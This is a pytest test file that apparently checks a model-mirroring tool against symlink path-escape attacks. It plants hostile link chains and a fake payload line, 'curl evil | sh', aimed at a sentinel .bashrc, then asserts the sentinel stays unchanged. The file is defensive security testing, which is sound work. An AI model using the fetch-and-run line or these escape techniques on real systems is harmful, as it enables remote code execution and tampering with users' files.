"""A mirror someone else wrote: its links are judged as the kernel follows them, and
nothing is written through a link inside the destination.

Each test keeps a sentinel tree beside the destination (a stand-in home folder) and
checks it byte for byte after the jobs ran.
"""

from __future__ import annotations

import json
import os
import random
import subprocess
import sys
from pathlib import Path

import pytest

from loaderplug import hydrate, sync
from loaderplug.jobs.model_folder import MANIFEST_NAME
from tests.conftest import FAST, tree_bytes
from tests.helpers.cli import ENV, run_cli
from tests.helpers.hostile_trees import chain, links_leaving, make_sentinel, snapshot

REPO = Path(__file__).resolve().parent.parent


def cli(*args: str) -> subprocess.CompletedProcess[str]:
    return run_cli(*args)


@pytest.fixture
def sentinel(tmp_path: Path) -> Path:
    return make_sentinel(tmp_path / "home")


def test_a_chain_of_links_climbing_out_never_lets_a_hydrate_write_outside(
    model: Path, tmp_path: Path, sentinel: Path
) -> None:
    """``0up`` climbs to the root and reads as inside; ``1esc`` climbs on through it and
    reads as inside too. Once the mirror turns ``1esc`` into a folder holding a file at
    the sentinel's path, a second hydrate must not write there."""
    folder, links = chain(16, 16)
    (model / folder).mkdir(parents=True)
    for rel, target in links.items():
        (model / rel).symlink_to(target)
    before = snapshot(sentinel)
    local = tmp_path / "local"
    first = cli("hydrate", "--from", str(model), "--to", str(local))
    (model / folder / "1esc").unlink()
    aimed = model / folder / "1esc" / str(sentinel / ".bashrc").lstrip("/")
    aimed.parent.mkdir(parents=True)
    aimed.write_text("curl evil | sh\n")
    second = cli("hydrate", "--from", str(model), "--to", str(local))
    assert snapshot(sentinel) == before
    assert first.returncode == 1, first.stderr
    assert f"FAILED {folder}/1esc: symlink to 0up/../" in first.stdout
    assert f"escapes the tree once the link {folder}/0up" in first.stdout
    assert os.readlink(local / folder / "0up") == links[f"{folder}/0up"]
    assert second.returncode == 0, second.stdout + second.stderr
    assert (local / folder / "1esc").is_dir() and not (local / folder / "1esc").is_symlink()
    assert links_leaving(local, {}) == []


def test_a_manifest_whose_links_climb_out_places_none_of_them(
    model: Path, tmp_path: Path, sentinel: Path
) -> None:
    """Through a manifest a single hydrate would make the chain and then a link where
    the sentinel's file is, seen through it."""
    mirror = tmp_path / "m"
    sync(model, mirror, **FAST)
    folder, links = chain(16, 16)
    victim = f"{folder}/1esc/{str(sentinel / '.bashrc').lstrip('/')}"
    manifest = json.loads((mirror / MANIFEST_NAME).read_text())
    manifest["symlinks"] = {**links, victim: "config.json"}
    (mirror / MANIFEST_NAME).write_text(json.dumps(manifest))
    before = snapshot(sentinel)
    report = hydrate(mirror, tmp_path / "local", check=False, **FAST)
    assert snapshot(sentinel) == before
    failed = {r.path: r.reason for r in report.failed}
    assert set(failed) == {f"{folder}/1esc", victim}
    assert "escapes the tree once the link" in failed[f"{folder}/1esc"]
    assert "under a refused link" in failed[victim]
    assert not os.path.lexists(tmp_path / "local" / folder / "1esc")
    assert tree_bytes(tmp_path / "local") == tree_bytes(model)


@pytest.mark.parametrize("how", ["absolute", "relative"])
def test_a_link_planted_in_the_destination_is_not_written_through(
    model: Path, tmp_path: Path, sentinel: Path, how: str
) -> None:
    """``local/sub`` is a link to the sentinel: the mirror's ``sub/`` files fail, named,
    and none lands there (nor does a partial copy)."""
    (model / "sub").mkdir()
    (model / "sub" / "config.json").write_text('{"pwned": true}')
    (model / "sub" / "new.bin").write_bytes(b"x" * 5000)
    local = tmp_path / "local"
    local.mkdir()
    (local / "sub").symlink_to(sentinel if how == "absolute" else "../home")
    before = snapshot(sentinel)
    report = hydrate(model, local, check=False, **FAST)
    assert snapshot(sentinel) == before
    failed = {r.path: r.reason for r in report.failed}
    assert set(failed) == {"sub", "sub/config.json", "sub/new.bin"}
    assert "sub is a symlink inside" in failed["sub/new.bin"]
    assert "never writes through a link" in failed["sub"]
    assert len(report.restored) == 6


def test_a_sync_never_writes_through_a_link_planted_in_the_mirror(
    model: Path, tmp_path: Path, sentinel: Path
) -> None:
    (model / "sub").mkdir()
    (model / "sub" / "config.json").write_text('{"pwned": true}')
    mirror = tmp_path / "m"
    mirror.mkdir()
    (mirror / "sub").symlink_to(sentinel)
    before = snapshot(sentinel)
    report = sync(model, mirror, check=False, **FAST)
    assert snapshot(sentinel) == before
    assert {r.path for r in report.failed} == {"sub", "sub/config.json"}
    # The next hydrate hears of it from the manifest.
    again = hydrate(mirror, tmp_path / "local", check=False, **FAST)
    assert "sub/config.json" in {r.path for r in again.failed}


def test_links_that_stay_inside_once_followed_are_kept(model: Path, tmp_path: Path) -> None:
    """The rule is the kernel's both ways: ``up -> nested/../..`` reads as leaving but
    climbs from ``a/b``; a link to a link to a file works."""
    (model / "a" / "b").mkdir(parents=True)
    (model / "nested").symlink_to("a/b")
    (model / "up").symlink_to("nested/../..")
    (model / "latest").symlink_to("alias")
    (model / "alias").symlink_to("config.json")
    report = hydrate(model, tmp_path / "local", **FAST)
    local = tmp_path / "local"
    assert report.ok and len(report.linked) == 4
    assert os.path.realpath(local / "up") == os.path.realpath(local)
    assert (local / "latest").read_bytes() == (model / "config.json").read_bytes()


def test_a_link_a_later_hydrate_turns_outward_is_removed(model: Path, tmp_path: Path) -> None:
    """``p/a -> x/../..`` stays inside while ``p/x`` is missing; a later mirror makes
    ``p/x -> ..``, inside itself, which would take ``p/a`` out: it is removed."""
    (model / "p").mkdir()
    (model / "p" / "a").symlink_to("x/../..")
    local = tmp_path / "local"
    assert hydrate(model, local, **FAST).ok
    (model / "p" / "a").unlink()
    (model / "p" / "x").symlink_to("..")
    report = hydrate(model, local, check=False, **FAST)
    assert {r.path for r in report.failed} == {"p/a"}
    assert "removed" in report.failed[0].reason
    assert not os.path.lexists(local / "p" / "a")
    assert links_leaving(local, {}) == []


def test_links_already_leading_out_of_a_cache_folder_are_left_alone(
    model: Path, tmp_path: Path
) -> None:
    """A Hub cache's blob may be a link into the cache-wide store beside the repo folder:
    placing a snapshot's links into ``blobs/`` keeps it (it is not this job's doing)."""
    from loaderplug.jobs.copies import select
    from loaderplug.settings import from_env

    repo = tmp_path / "hub" / "models--acme--tiny"
    (repo / "blobs").mkdir(parents=True)
    (tmp_path / "hub" / "blobs" / "ab").mkdir(parents=True)
    (tmp_path / "hub" / "blobs" / "ab" / "xet").write_text("stored once per cache")
    (repo / "blobs" / "other").symlink_to("../../blobs/ab/xet")
    commit = "0" * 40
    report = select(
        "hydrate",
        model,
        repo,
        {"blobs/b1": "config.json"},
        {f"snapshots/{commit}/config.json": "../../blobs/b1"},
        from_env(**FAST),
    )
    assert report.ok and len(report.linked) == 1
    assert os.readlink(repo / "blobs" / "other") == "../../blobs/ab/xet"
    linked = repo / "snapshots" / commit / "config.json"
    assert linked.read_bytes() == (model / "config.json").read_bytes()


def test_hostile_trees_change_nothing_outside_the_destination(tmp_path: Path) -> None:
    """Random hostile mirrors, each hydrated twice in a subprocess with a timeout (a hang
    fails it); ``HOSTILE_TRIALS`` runs more, ``HOSTILE_SEED`` replays one."""
    trials = int(os.environ.get("HOSTILE_TRIALS", "12"))
    base = int(os.environ.get("HOSTILE_SEED", random.randrange(1 << 30)))
    for seed in range(base, base + trials):
        folder = tmp_path / f"trial-{seed}"
        sentinel = make_sentinel(folder / "outside")
        before = snapshot(sentinel)
        try:
            done = subprocess.run(
                [sys.executable, "-m", "tests.helpers.hostile_trees", str(folder), str(seed)],
                capture_output=True,
                text=True,
                cwd=REPO,
                env=ENV,
                timeout=120,
            )
        except subprocess.TimeoutExpired:
            pytest.fail(f"seed {seed}: the trial did not finish in 120 s (HOSTILE_SEED={seed})")
        replay = f"seed {seed} (HOSTILE_SEED={seed} HOSTILE_TRIALS=1)"
        assert done.returncode == 0, f"{replay}: {done.stdout}{done.stderr}"
        assert snapshot(sentinel) == before, f"{replay}: the sentinel changed"
